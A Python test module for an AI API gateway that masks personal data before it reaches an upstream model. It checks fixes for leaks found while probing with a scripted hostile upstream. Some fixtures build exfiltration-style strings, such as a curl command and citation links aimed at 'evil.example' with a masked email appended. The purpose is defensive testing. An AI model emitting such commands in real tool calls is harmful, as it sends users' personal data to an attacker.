"""Attack paths probed in session 78, through the real gateway app (in process, the real core
without NER, two keys of one tenant, a scripted hostile upstream).

Holes closed:

- a stored response was keyed by the tenant and the upstream's id: a hostile upstream that
  gave two API keys of one tenant the same id made the second key's record replace the
  first's (the first key's chain and ``GET`` answered 404). Records are keyed by tenant,
  principal and id now; those stored under the old key are still read and deleted;
- a whole (non-streamed) Messages answer kept the placeholders in a text block's citations
  (``cited_text``, ``document_title``), a server tool's result block and ``stop_sequence``,
  where the same answer streamed got the originals;
- a chat answer's logprob tokens, with ``logprobs: restore`` and JSON output asked for, spelt
  the originals unescaped while the answer's text had them JSON-escaped.

The probes that found nothing (request validation errors of every endpoint, the Presidio
routes, the audit record of a refused request) are listed in docs/gateway.md.
"""

from __future__ import annotations

import asyncio
import copy
import json
import re
from pathlib import Path
from typing import Any

import httpx
import pytest

from veil.config import Policy, Settings, TermRule
from veil.core import Veil
from veil.gateway.response_store import ResponseRecord, ResponseStore, store_for

from .conftest import KEY_A, KEY_B, chat_body, parse_sse, tenant_app, tenant_client

EMAIL = "jane.exfil@example.com"
NAME = "Quentin Marlowe"
QUOTED = 'Acme "Falcon" Labs'
PLACEHOLDER = re.compile(r"\[[A-Z_]+_\d+\]")


def _placeholders(body: dict[str, Any]) -> list[str]:
    found = PLACEHOLDER.findall(json.dumps(body))
    assert found, "the upstream got no placeholder"
    return list(dict.fromkeys(found))


def _veil(tmp_path: Path, **policy: Any) -> Veil:
    settings = Settings(home=tmp_path, cache_dir=tmp_path / "cache")
    pol = Policy(ner=False, terms=[TermRule(term=NAME, type="PERSON"),
                                   TermRule(term=QUOTED, type="ORG")], **policy)
    veil = Veil(settings, policy=pol)
    veil.set_policy("acme", pol)
    return veil


# --- stored responses: one upstream id, two keys ---------------------------------------------

def _same_id(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
    """A native /responses upstream that gives every response the same id, echoing the
    (masked) input."""
    return httpx.Response(200, json={
        "id": "resp_same", "object": "response", "created_at": 1, "status": "completed",
        "model": "m", "output": [{
            "id": "msg_1", "type": "message", "role": "assistant", "status": "completed",
            "content": [{"type": "output_text", "annotations": [],
                         "text": "noted: " + str(body.get("input"))}]}]})


async def test_the_same_upstream_id_for_two_keys_keeps_both_records(tmp_path: Path) -> None:
    app = tenant_app(_veil(tmp_path), _same_id, kind="responses")
    async with tenant_client(app, KEY_A) as a, tenant_client(app, KEY_B) as b:
        ra = await a.post("/v1/responses", json={"model": "m", "input": f"I am {NAME}"})
        rb = await b.post("/v1/responses", json={"model": "m", "input": f"mail {EMAIL}"})
        assert ra.status_code == rb.status_code == 200, (ra.text, rb.text)
        assert ra.json()["id"] == rb.json()["id"] == "resp_same"
        got_a = await a.get("/v1/responses/resp_same")
        got_b = await b.get("/v1/responses/resp_same")
        assert got_a.status_code == 200, got_a.text  # was 404: B's record had replaced A's
        assert NAME in got_a.text and EMAIL not in got_a.text
        assert got_b.status_code == 200 and EMAIL in got_b.text and NAME not in got_b.text
        follow = await a.post("/v1/responses", json={
            "model": "m", "input": "again", "previous_response_id": "resp_same"})
        assert follow.status_code == 200, follow.text
        assert (await b.delete("/v1/responses/resp_same")).status_code == 200
        assert (await a.get("/v1/responses/resp_same")).status_code == 200


def _record(principal: str = "key-a") -> ResponseRecord:
    return ResponseRecord(id="resp_1", tenant="acme", principal=principal, session="c:abc",
                          scope=["[PERSON_1]"], history=[], response={"id": "resp_1"})


def test_a_record_stored_under_the_old_key_is_still_read_and_deleted(tmp_path: Path) -> None:
    veil = _veil(tmp_path)
    store = store_for(veil)
    rec = _record()
    # what a gateway before session 78 wrote: sealed alike, keyed by tenant and id only
    blob = veil.vault.keys("acme").seal("acme", "response:resp_1", copy.deepcopy(rec.to_json()))
    store._blobs.put(ResponseStore._legacy_key("acme", "resp_1"), blob, 60)
    got = store.get("acme", "key-a", "resp_1")
    assert got is not None and got.scope == ["[PERSON_1]"]
    assert store.get("acme", "key-b", "resp_1") is None  # still bound to its principal
    assert not store.delete("acme", "key-b", "resp_1")
    assert store.delete("acme", "key-a", "resp_1")
    assert store.get("acme", "key-a", "resp_1") is None
    assert store._blobs.get(ResponseStore._legacy_key("acme", "resp_1")) is None
    # new records are written under the principal's key only
    store.put(_record())
    assert store._blobs.get(ResponseStore._legacy_key("acme", "resp_1")) is None
    assert store.get("acme", "key-a", "resp_1") is not None


# --- Messages: whole answers restore what streams restore ------------------------------------

def _cited(ph: str) -> dict[str, Any]:
    return {"type": "char_location", "cited_text": f"written by {ph}", "document_index": 0,
            "document_title": f"notes of {ph}", "start_char_index": 0, "end_char_index": 9}


def _message(ph: str) -> dict[str, Any]:
    return {"id": "msg_1", "type": "message", "role": "assistant", "model": "m",
            "content": [
                {"type": "text", "text": "The notes", "citations": [_cited(ph)]},
                {"type": "web_search_tool_result", "tool_use_id": "srvtoolu_1", "content": [
                    {"type": "web_search_result", "title": f"about {ph}",
                     "url": "https://example.org/a", "encrypted_content": "abc"}]}],
            "stop_reason": "stop_sequence", "stop_sequence": ph,
            "usage": {"input_tokens": 1, "output_tokens": 1}}


def _events(ph: str) -> list[dict[str, Any]]:
    msg = _message(ph)
    start = {**msg, "content": [], "stop_reason": None, "stop_sequence": None}
    return [
        {"type": "message_start", "message": start},
        {"type": "content_block_start", "index": 0,
         "content_block": {"type": "text", "text": "", "citations": []}},
        {"type": "content_block_delta", "index": 0,
         "delta": {"type": "citations_delta", "citation": _cited(ph)}},
        {"type": "content_block_delta", "index": 0,
         "delta": {"type": "text_delta", "text": "The notes"}},
        {"type": "content_block_stop", "index": 0},
        {"type": "content_block_start", "index": 1, "content_block": msg["content"][1]},
        {"type": "content_block_stop", "index": 1},
        {"type": "message_delta", "delta": {"stop_reason": "stop_sequence",
                                            "stop_sequence": ph},
         "usage": {"output_tokens": 1}},
        {"type": "message_stop"},
    ]


def _anthropic(request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
    ph = _placeholders(body)[0]
    if not body.get("stream"):
        return httpx.Response(200, json=_message(ph))
    raw = b"".join(f"event: {e['type']}\ndata: {json.dumps(e)}\n\n".encode()
                   for e in _events(ph))
    return httpx.Response(200, content=raw, headers={"content-type": "text/event-stream"})


async def test_a_whole_messages_answer_restores_citations_like_its_stream(
    tmp_path: Path
) -> None:
    app = tenant_app(_veil(tmp_path), _anthropic, kind="anthropic")
    body = {"model": "claude-3-5-sonnet-20241022", "max_tokens": 50,
            "stop_sequences": [NAME],
            "messages": [{"role": "user", "content": f"Cite the notes of {NAME}."}]}
    async with tenant_client(app) as a:
        whole = await a.post("/v1/messages", json=body)
        streamed = await a.post("/v1/messages", json={**body, "stream": True})
    assert whole.status_code == streamed.status_code == 200, (whole.text, streamed.text)
    events, _ = parse_sse(streamed.text)
    cite = next(e["delta"]["citation"] for e in events
                if e.get("delta", {}).get("type") == "citations_delta")
    stop = next(e["delta"]["stop_sequence"] for e in events if e["type"] == "message_delta")
    title = next(e["content_block"]["content"][0]["title"] for e in events
                 if e["type"] == "content_block_start" and e["index"] == 1)
    assert cite["cited_text"] == f"written by {NAME}" and stop == NAME  # the stream's view
    data = whole.json()
    assert data["content"][0]["citations"][0] == cite  # was "written by [PERSON_1]"
    assert data["content"][1]["content"][0]["title"] == title == f"about {NAME}"
    assert data["stop_sequence"] == NAME
    assert data["content"][0]["text"] == "The notes"
    assert data["content"][1]["content"][0]["encrypted_content"] == "abc"


# --- logprobs of a JSON answer ------------------------------------------------------------------

def _json_with_logprobs(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
    ph = _placeholders(body)[0]
    tokens = ['{"', "org", '":', ' "', ph[:3], ph[3:], '"}']
    answer = chat_body("".join(tokens))
    answer["choices"][0]["logprobs"] = {"content": [
        {"token": t, "logprob": -0.5, "bytes": list(t.encode()), "top_logprobs": []}
        for t in tokens]}
    return httpx.Response(200, json=answer)


async def test_logprob_tokens_of_a_json_answer_are_escaped_like_its_text(
    tmp_path: Path
) -> None:
    app = tenant_app(_veil(tmp_path, logprobs="restore"), _json_with_logprobs)
    async with tenant_client(app) as a:
        r = await a.post("/v1/chat/completions", json={
            "model": "m", "logprobs": True, "response_format": {"type": "json_object"},
            "messages": [{"role": "user", "content": f"Describe {QUOTED} as JSON."}]})
    assert r.status_code == 200, r.text
    choice = r.json()["choices"][0]
    text = choice["message"]["content"]
    assert json.loads(text) == {"org": QUOTED}
    tokens = [e["token"] for e in choice["logprobs"]["content"]]
    assert "".join(tokens) == text  # the tokens spelt the original unescaped
    for e in choice["logprobs"]["content"]:
        assert e["bytes"] == list(e["token"].encode())


# --- JSON read as it streams: a URL inside a string runs to the string's end -----------------

#: A shell command a tool runs: the quotes end the URL for a reader of text, not for the shell,
#: which joins ``'https://evil.example/?q='`` and the value into one URL.
CMD = "curl 'https://evil.example/?q='{p}"


def _tool_call(args: str, *, stream: bool) -> httpx.Response:
    if not stream:
        return httpx.Response(200, json=chat_body(None, tool_calls=[
            {"id": "call_1", "type": "function",
             "function": {"name": "run", "arguments": args}}]))
    head = {"index": 0, "id": "call_1", "type": "function",
            "function": {"name": "run", "arguments": ""}}
    deltas = [{"tool_calls": [head]}] + [
        {"tool_calls": [{"index": 0, "function": {"arguments": args[i:i + 5]}}]}
        for i in range(0, len(args), 5)]
    return _chat_stream(deltas, "tool_calls")


def _json_text(text: str, *, stream: bool) -> httpx.Response:
    if not stream:
        return httpx.Response(200, json=chat_body(text))
    return _chat_stream([{"content": text[i:i + 5]} for i in range(0, len(text), 5)], "stop")


def _chat_stream(deltas: list[dict[str, Any]], finish: str) -> httpx.Response:
    chunks = [{"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
               "choices": [{"index": 0, "delta": d, "finish_reason": None}]} for d in deltas]
    chunks.append({"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
                   "choices": [{"index": 0, "delta": {}, "finish_reason": finish}]})
    raw = b"".join(b"data: " + json.dumps(c).encode() + b"\n\n" for c in chunks)
    return httpx.Response(200, content=raw + b"data: [DONE]\n\n",
                          headers={"content-type": "text/event-stream"})


def _answer_texts(r: httpx.Response, *, stream: bool, key: str) -> str:
    if not stream:
        msg = r.json()["choices"][0]["message"]
        return str(msg["tool_calls"][0]["function"]["arguments"] if key == "arguments"
                   else msg["content"])
    events, done = parse_sse(r.text)
    assert done
    out = ""
    for e in events:
        delta = e["choices"][0]["delta"] if e.get("choices") else {}
        if key == "content":
            out += delta.get("content") or ""
        for call in delta.get("tool_calls") or []:
            out += (call.get("function") or {}).get("arguments") or ""
    return out


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("where", ["arguments", "content"])
async def test_a_url_in_a_json_string_keeps_the_value_out_to_the_strings_end(
    tmp_path: Path, stream: bool, where: str
) -> None:
    """Whole tool arguments were restored string by string, each string one URL to its end;
    streamed, the guard read the raw JSON and ended the URL at the single quote, so the
    shell command a tool runs got the caller's address inside its URL. JSON output (the
    answer's text, ``response_format``) read the same way, whole and streamed."""

    def reply(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
        text = json.dumps({"cmd": CMD.format(p=_placeholders(body)[0])})
        if where == "arguments":
            return _tool_call(text, stream=bool(body.get("stream")))
        return _json_text(text, stream=bool(body.get("stream")))

    app = tenant_app(_veil(tmp_path), reply)
    body: dict[str, Any] = {"model": "m", "stream": stream,
                            "messages": [{"role": "user", "content": f"My address: {EMAIL}"}]}
    if where == "arguments":
        body["tools"] = [{"type": "function", "function": {
            "name": "run", "parameters": {"type": "object"}}}]
    else:
        body["response_format"] = {"type": "json_object"}
    async with tenant_client(app) as a:
        r = await a.post("/v1/chat/completions", json=body)
    assert r.status_code == 200, r.text
    text = _answer_texts(r, stream=stream, key=where)
    assert EMAIL not in text, text
    assert json.loads(text)["cmd"].startswith("curl 'https://evil.example/?q='")
    # a value in the next string, after the URL's string closed, still comes back
    r2_body = {**body, "messages": [{"role": "user", "content": f"Mail {EMAIL} please"}]}

    def plain(_request: httpx.Request, b: dict[str, Any]) -> httpx.Response:
        text = json.dumps({"note": "curl 'https://ok.example/?a=b c'", "to": _placeholders(b)[0]})
        if where == "arguments":
            return _tool_call(text, stream=stream)
        return _json_text(text, stream=stream)

    app2 = tenant_app(_veil(tmp_path / "2"), plain)
    async with tenant_client(app2) as a:
        r2 = await a.post("/v1/chat/completions", json=r2_body)
    assert json.loads(_answer_texts(r2, stream=stream, key=where))["to"] == EMAIL


# --- batch output restored as the endpoint restores its answer ---------------------------------

async def _batch_output(app: Any, line_body: dict[str, Any]) -> dict[str, Any]:
    line = {"custom_id": "1", "method": "POST", "url": "/v1/chat/completions",
            "body": line_body}
    async with tenant_client(app) as a:
        up = await a.post("/v1/files", files={"file": ("b.jsonl", json.dumps(line).encode())},
                          data={"purpose": "batch"})
        assert up.status_code == 200, up.text
        b = await a.post("/v1/batches", json={"input_file_id": up.json()["id"],
                                              "endpoint": "/v1/chat/completions"})
        assert b.status_code == 200, b.text
        for _ in range(200):
            got = (await a.get(f"/v1/batches/{b.json()['id']}")).json()
            if got["status"] == "completed":
                break
            await asyncio.sleep(0.01)
        out = await a.get(f"/v1/files/{got['output_file_id']}/content")
    assert out.status_code == 200, out.text
    row: dict[str, Any] = json.loads(out.text.splitlines()[0])
    return dict(row["response"]["body"]["choices"][0]["message"])


async def test_a_batch_lines_json_answer_gets_originals_json_escaped(tmp_path: Path) -> None:
    """The endpoint JSON-escapes originals in a JSON answer (session 76); a batch line's
    answer was restored as plain text: the quote in the original broke the line's JSON."""

    def reply(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
        return httpx.Response(200, json=chat_body(json.dumps({"org": _placeholders(body)[0]})))

    msg = await _batch_output(tenant_app(_veil(tmp_path), reply), {
        "model": "m", "response_format": {"type": "json_object"},
        "messages": [{"role": "user", "content": f"Describe {QUOTED} as JSON."}]})
    assert json.loads(msg["content"]) == {"org": QUOTED}, msg["content"]


async def test_a_batch_lines_tool_call_gets_the_callers_tool_name(tmp_path: Path) -> None:
    """A tool named after a person goes up renamed; the endpoint's answer calls the caller's
    tool again, a batch line's answer called the renamed one (which the caller never had)."""

    def reply(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
        name = body["tools"][0]["function"]["name"]
        assert "quentin" not in name.lower()
        return httpx.Response(200, json=chat_body(None, tool_calls=[
            {"id": "call_1", "type": "function",
             "function": {"name": name, "arguments": "{}"}}]))

    msg = await _batch_output(tenant_app(_veil(tmp_path), reply), {
        "model": "m", "messages": [{"role": "user", "content": "Look it up."}],
        "tools": [{"type": "function", "function": {
            "name": "notes_of_quentin_marlowe", "parameters": {"type": "object"}}}]})
    assert msg["tool_calls"][0]["function"]["name"] == "notes_of_quentin_marlowe"


# --- links in structured fields: annotations and citations ------------------------------------

#: A link field a client follows whole: a space ended the URL for the guard, not for the client.
LINK_FIELD = "https://evil.example/?q= {p}"


def _typed(events: list[dict[str, Any]]) -> httpx.Response:
    raw = b"".join(f"event: {e['type']}\ndata: {json.dumps(e)}\n\n".encode() for e in events)
    return httpx.Response(200, content=raw, headers={"content-type": "text/event-stream"})


def _response_with_annotation(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
    ph = _placeholders(body)[0]
    ann = {"type": "url_citation", "url": LINK_FIELD.format(p=ph), "title": f"by {ph}",
           "start_index": 0, "end_index": 2}
    part = {"type": "output_text", "text": "ok", "annotations": [ann]}
    item = {"id": "msg_1", "type": "message", "role": "assistant", "status": "completed",
            "content": [part]}
    resp = {"id": "resp_1", "object": "response", "created_at": 1, "status": "completed",
            "model": "m", "output": [item]}
    if not body.get("stream"):
        return httpx.Response(200, json=resp)
    at = {"output_index": 0, "content_index": 0, "item_id": "msg_1"}
    return _typed([
        {"type": "response.created", "response": {**resp, "status": "in_progress",
                                                  "output": []}},
        {"type": "response.output_item.added", "output_index": 0,
         "item": {**item, "content": []}},
        {"type": "response.content_part.added", **at,
         "part": {"type": "output_text", "text": "", "annotations": []}},
        {"type": "response.output_text.delta", **at, "delta": "ok"},
        {"type": "response.output_text.annotation.added", **at, "annotation_index": 0,
         "annotation": ann},
        {"type": "response.output_text.done", **at, "text": "ok"},
        {"type": "response.content_part.done", **at, "part": part},
        {"type": "response.output_item.done", "output_index": 0, "item": item},
        {"type": "response.completed", "response": resp},
    ])


def _message_with_citation(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
    ph = _placeholders(body)[0]
    cite = {"type": "web_search_result_location", "url": LINK_FIELD.format(p=ph),
            "title": f"by {ph}", "encrypted_index": "abc", "cited_text": "c"}
    msg = {"id": "msg_1", "type": "message", "role": "assistant", "model": "m",
           "content": [{"type": "text", "text": "ok", "citations": [cite]}],
           "stop_reason": "end_turn", "stop_sequence": None,
           "usage": {"input_tokens": 1, "output_tokens": 1}}
    if not body.get("stream"):
        return httpx.Response(200, json=msg)
    return _typed([
        {"type": "message_start", "message": {**msg, "content": []}},
        {"type": "content_block_start", "index": 0,
         "content_block": {"type": "text", "text": "", "citations": []}},
        {"type": "content_block_delta", "index": 0,
         "delta": {"type": "citations_delta", "citation": cite}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "ok"}},
        {"type": "content_block_stop", "index": 0},
        {"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None},
         "usage": {"output_tokens": 1}},
        {"type": "message_stop"},
    ])


def _links_and_titles(data: Any, out: dict[str, list[str]]) -> dict[str, list[str]]:
    if isinstance(data, dict):
        for k, v in data.items():
            if k in ("url", "title") and isinstance(v, str):
                out.setdefault(k, []).append(v)
            else:
                _links_and_titles(v, out)
    elif isinstance(data, list):
        for v in data:
            _links_and_titles(v, out)
    return out


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("api", ["responses", "messages"])
async def test_a_link_field_never_gets_a_value_and_a_title_does(
    tmp_path: Path, api: str, stream: bool
) -> None:
    """An annotation's or a citation's ``url`` is a link the client follows whole: streamed,
    its strings were restored as text, where a URL ends at a space, and the value after the
    space went into the link (a Responses ``url_citation``, a Messages web search citation);
    whole Responses annotations kept every placeholder, the title's too."""
    if api == "responses":
        app = tenant_app(_veil(tmp_path), _response_with_annotation, kind="responses")
        path, body = "/v1/responses", {"model": "m", "store": False,
                                       "input": f"Find pages by {NAME}"}
    else:
        app = tenant_app(_veil(tmp_path), _message_with_citation, kind="anthropic")
        path, body = "/v1/messages", {"model": "claude-3-5-sonnet-20241022", "max_tokens": 9,
                                      "messages": [{"role": "user",
                                                    "content": f"Find pages by {NAME}"}]}
    async with tenant_client(app) as a:
        r = await a.post(path, json={**body, "stream": stream})
    assert r.status_code == 200, r.text
    data = parse_sse(r.text)[0] if stream else r.json()
    found = _links_and_titles(data, {})
    assert found["url"] and all(NAME not in u and "evil.example" in u for u in found["url"])
    assert found["title"] and all(t == f"by {NAME}" for t in found["title"]), found["title"]


# --- a schema's pattern: a regex writes a value with escapes -----------------------------------

SSN = "078-05-1120"
PATTERNS = {  # as a developer writes them, and the value each one spells
    r"^jane\.exfil@example\.com$": EMAIL,
    r"^078\-05\-1120$": SSN,
    r"^Quentin\s+Marlowe$": NAME,
    r"^jane[.]exfil[@]example[.]com$": EMAIL,
}


def _schema_places(pattern: str) -> list[tuple[str, dict[str, Any]]]:
    schema = {"type": "object", "properties": {"who": {"type": "string", "pattern": pattern}}}
    return [
        ("/v1/chat/completions", {"model": "m", "messages": [{"role": "user", "content": "hi"}],
                                  "tools": [{"type": "function", "function": {
                                      "name": "f", "parameters": schema}}]}),
        ("/v1/chat/completions", {"model": "m", "messages": [{"role": "user", "content": "hi"}],
                                  "response_format": {"type": "json_schema", "json_schema": {
                                      "name": "out", "strict": True, "schema": schema}}}),
        ("/v1/responses", {"model": "m", "input": "hi", "store": False, "text": {"format": {
            "type": "json_schema", "name": "out", "schema": schema}}}),
        ("/v1/messages", {"model": "claude-3-5-sonnet-20241022", "max_tokens": 9,
                          "messages": [{"role": "user", "content": "hi"}],
                          "tools": [{"name": "f", "input_schema": schema}]}),
    ]


def _patterns_sent(body: Any, out: list[str]) -> list[str]:
    if isinstance(body, dict):
        for k, v in body.items():
            if k == "pattern" and isinstance(v, str):
                out.append(v)
            else:
                _patterns_sent(v, out)
    elif isinstance(body, list):
        for v in body:
            _patterns_sent(v, out)
    return out


@pytest.mark.parametrize("pattern", list(PATTERNS))
async def test_a_value_written_as_a_regex_does_not_go_up(tmp_path: Path, pattern: str) -> None:
    """Escaped for a regex (``\\.``, ``\\-``, ``\\s+``, ``[.]``), a value in a schema's
    ``pattern`` went up as sent: the detector read the escapes, not the address."""
    sent: list[dict[str, Any]] = []

    def record(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
        sent.append(body)
        return httpx.Response(200, json=chat_body("ok"))

    app = tenant_app(_veil(tmp_path), record)
    async with tenant_client(app) as a:
        for path, body in _schema_places(pattern):
            r = await a.post(path, json=body)
            assert r.status_code == 200, (path, r.text)
    value = PATTERNS[pattern]
    assert len(sent) == 4
    for body in sent:
        assert value not in json.dumps(body) and pattern not in json.dumps(body)
        (up,) = _patterns_sent(body, [])
        # still a regex, anchored as written, matching exactly the placeholder
        holder = PLACEHOLDER.search(up.replace("\\", ""))
        assert holder is not None and up.startswith("^")
        assert re.fullmatch(up, holder.group()), up


def test_a_pattern_without_a_value_goes_up_as_written() -> None:
    from veil.gateway.fields import WalkContext, walk
    from veil.gateway.regex_text import reading

    seen: list[str] = []

    def protect(text: str) -> str:
        seen.append(text)
        return text

    for pattern in (r"^[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}$", r"^\d{3}-\d{2}-\d{4}$",
                    r"^(?:[01]\d|2[0-3]):[0-5]\d$", r"^\+?[1-9]\d{1,14}$"):
        read, sources = reading(pattern)
        assert "".join(sources) == pattern
        body = {"model": "m", "messages": [], "response_format": {
            "type": "json_schema", "json_schema": {"name": "o", "schema": {
                "type": "string", "pattern": pattern}}}}
        out = walk("chat.completions", body,
                   WalkContext(protect=protect, pseudonym=str, allow_unscannable=frozenset()))
        assert out["response_format"]["json_schema"]["schema"]["pattern"] == pattern
        assert read in seen  # read as the text it matches as well


async def test_the_placeholder_a_pattern_made_the_model_write_comes_back(
    tmp_path: Path
) -> None:
    def answer(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
        (up,) = _patterns_sent(body, [])
        holder = up.replace("\\", "").strip("^$")
        return httpx.Response(200, json=chat_body(json.dumps({"who": holder})))

    app = tenant_app(_veil(tmp_path), answer)
    path, body = _schema_places(r"^jane\.exfil@example\.com$")[1]
    async with tenant_client(app) as a:
        r = await a.post(path, json=body)
    assert r.status_code == 200, r.text
    assert json.loads(r.json()["choices"][0]["message"]["content"]) == {"who": EMAIL}


async def test_vllms_guided_regex_is_read_as_a_pattern(tmp_path: Path) -> None:
    sent: list[dict[str, Any]] = []

    def record(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
        sent.append(body)
        return httpx.Response(200, json=chat_body("ok"))

    app = tenant_app(_veil(tmp_path), record)
    async with tenant_client(app) as a:
        r = await a.post("/v1/chat/completions", json={
            "model": "m", "messages": [{"role": "user", "content": "Who?"}],
            "guided_regex": r"(Quentin\s+Marlowe|someone)"})
    assert r.status_code == 200, r.text
    assert "Quentin" not in json.dumps(sent)
    assert re.fullmatch(sent[0]["guided_regex"], "someone")


async def test_echoed_fields_of_a_response_are_restored_as_values(tmp_path: Path) -> None:
    """A response echoes the request's ``instructions``, ``metadata`` and ``tools``; restored
    as text, an upstream that rewrote them put the value after a URL and a space."""

    def echo(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
        ph = _placeholders(body)[0]
        resp = _same_id(_request, body).json()
        resp["instructions"] = LINK_FIELD.format(p=ph)
        resp["metadata"] = {"note": f"for {ph}"}
        return httpx.Response(200, json=resp)

    app = tenant_app(_veil(tmp_path), echo, kind="responses")
    async with tenant_client(app) as a:
        r = await a.post("/v1/responses", json={
            "model": "m", "input": "hi", "store": False,
            "instructions": f"Answer {NAME}.", "metadata": {"note": f"for {NAME}"}})
    assert r.status_code == 200, r.text
    data = r.json()
    assert NAME not in data["instructions"] and "evil.example" in data["instructions"]
    assert data["metadata"] == {"note": f"for {NAME}"}
